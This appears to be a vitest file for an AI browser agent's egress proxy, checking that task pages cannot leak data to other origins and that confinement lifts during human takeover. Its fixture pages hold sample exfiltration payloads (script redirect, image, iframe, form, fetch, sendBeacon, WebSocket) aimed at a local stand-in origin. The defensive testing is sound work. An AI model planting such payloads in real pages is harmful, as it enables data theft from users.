import { mkdtemp, rm } from 'node:fs/promises';
import { connect, createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createConfinement, type EgressConfinement } from '../../../desktop/confinement.ts';
import { createEgressPolicy } from '../../../desktop/egress-policy.ts';
import { startEgressProxy } from '../../../desktop/egress-proxy.ts';
import { type AgentRig, startAgentRig } from '../../testing/agent-rig.ts';
import { onPage } from '../../testing/on-page.ts';
import { serveTaskPages, type TaskPages } from '../../testing/task-pages.ts';
import type { Confine } from './confinements.ts';

let rig: AgentRig;
let pages: TaskPages;
let other: TaskPages;
let folder: string;
let proxy: { close(): void };
let splice: Server;
let confinement: EgressConfinement;
/** As the supervisor takes it; null when it was lifted. */
let held: readonly string[] | null = null;
let gone = false;

beforeAll(async () => {
  other = await serveTaskPages({ '/': '<h1>Elsewhere</h1>' });
  pages = await serveTaskPages({
    '/': '<h1>Here</h1>',
    '/away': `<script>location.href = '${other.origin}/?stolen=away'</script>`,
    '/link': `<a href="${other.origin}/?stolen=link">Next</a>`,
    '/parts': `<img src="${other.origin}/?stolen=image"><iframe src="${other.origin}/?stolen=frame"></iframe>
      <form action="${other.origin}/?stolen=form" method=post target=_blank><button>Go</button></form>
      <script>const steal = (how) => '${other.origin}/?stolen=' + how;
      fetch(steal('fetch'), { mode: 'no-cors' }).catch(() => 0); navigator.sendBeacon(steal('beacon'));
      new WebSocket(steal('socket').replace('http', 'ws'));
      fetch('https://localhost:${other.origin.split(':').at(-1)}/?stolen=tunnel').catch(() => 0);
      setTimeout(() => document.body.append('all tried'), 500)</script>`,
  });
  folder = await mkdtemp(join(tmpdir(), 'oda-egress-'));
  const ports = [pages, other].map(({ origin }) => origin.split(':').at(-1));
  const allowPrivate = ports.flatMap((port) => [`127.0.0.1:${port}`, `localhost:${port}`]);
  confinement = createConfinement(() => {
    held = null;
  });
  const path = join(folder, 'proxy.sock');
  proxy = await startEgressProxy(path, createEgressPolicy({ allowPrivate }), confinement);
  splice = createServer((client) => {
    const upstream = connect(path);
    client.on('error', () => upstream.destroy()).on('close', () => upstream.destroy());
    upstream.on('error', () => client.destroy());
    client.pipe(upstream).pipe(client);
  });
  await new Promise<void>((resolve) => splice.listen(0, '127.0.0.1', resolve));
  const { port } = splice.address() as { port: number };
  const confine: Confine = async (_sessionId, to) => {
    if (gone) throw new Error('the desktop is gone');
    held = to?.origins ?? null;
    confinement.set(to && { origins: to.origins, until: new Date(Date.now() + to.forMs).toISOString() });
  };
  const flags = [`--proxy-server=http://127.0.0.1:${port}`, '--proxy-bypass-list=<-loopback>'];
  rig = await startAgentRig(null, { confine, flags });
});

afterAll(async () => {
  await rig?.stop();
  confinement?.stop();
  proxy?.close();
  splice?.close();
  await Promise.all([pages?.stop(), other?.stop(), rm(folder, { recursive: true, force: true })]);
});

const stolen = () => other.hits.filter((line) => line.includes('stolen'));
const open = (path: string) => ({ navigate: `${pages.origin}${path}` });

async function confined(...steps: unknown[]) {
  const sessionId = await rig.newSession();
  const rules = { allowedOrigins: [pages.origin] };
  return rig.until(sessionId, await rig.begin(sessionId, steps, {}, rules));
}

describe('allowed origins', () => {
  it('[AGT-9] nothing of a page reaches another origin while the task runs, by whatever way', async () => {
    const task = await confined(
      open('/parts'),
      { waitFor: { text: 'all tried' } },
      { assert: { text: 'nothing' } },
    );
    expect(stolen()).toEqual([]);
    expect(task.error?.message).toContain(`kept from the page: ${other.origin}`);
    expect(task.error?.message).toContain('https://localhost');
    expect(held).toBeNull();
  });

  it.each([
    ['an address', () => [{ navigate: `${other.origin}/?stolen=address` }]],
    ['a page that goes on by itself', () => [open('/away'), { assert: { text: 'Elsewhere' } }]],
    ['a link', () => [open('/link'), { click: { text: 'Next' } }]],
  ])('[AGT-9] %s elsewhere fails in words', async (_, steps) => {
    const task = await confined(...steps());
    expect(task.error).toMatchObject({ code: 'origin-not-allowed' });
    expect(task.error?.message).toContain(`${other.origin} is not among the task's allowed origins`);
    expect(stolen()).toEqual([]);
  });

  it('[AGT-9] is lifted when a person takes over, held again on hand-back, and over at the end', async () => {
    const sessionId = await rig.newSession();
    const rules = { allowedOrigins: [pages.origin] };
    const steps = [open('/'), { waitFor: { text: 'Elsewhere' } }];
    const taskId = await rig.begin(sessionId, steps, {}, rules);
    await rig.until(sessionId, taskId, (task) => task.steps[1]?.status === 'running');
    expect(held).toEqual([pages.origin]);
    await rig.sessions.setControl(sessionId, 'human');
    await expect.poll(() => held).toBeNull();
    expect(
      await onPage(
        rig.chromium,
        (url: string) => fetch(url, { mode: 'no-cors' }).then(() => 'went'),
        other.origin,
      ),
    ).toBe('went');
    await rig.sessions.setControl(sessionId, 'agent');
    await expect.poll(() => held).toEqual([pages.origin]);
    await rig.runner.store.requestCancel(sessionId, taskId);
    rig.runner.kick(sessionId);
    await rig.until(sessionId, taskId);
    await expect.poll(() => held).toBeNull();
  });

  it('[AGT-9] nothing is done when the browser cannot be held', async () => {
    gone = true;
    try {
      const before = pages.hits.length;
      expect((await confined(open('/'))).error).toMatchObject({ code: 'not-confined' });
      expect(pages.hits.length).toBe(before);
    } finally {
      gone = false;
    }
  });
});
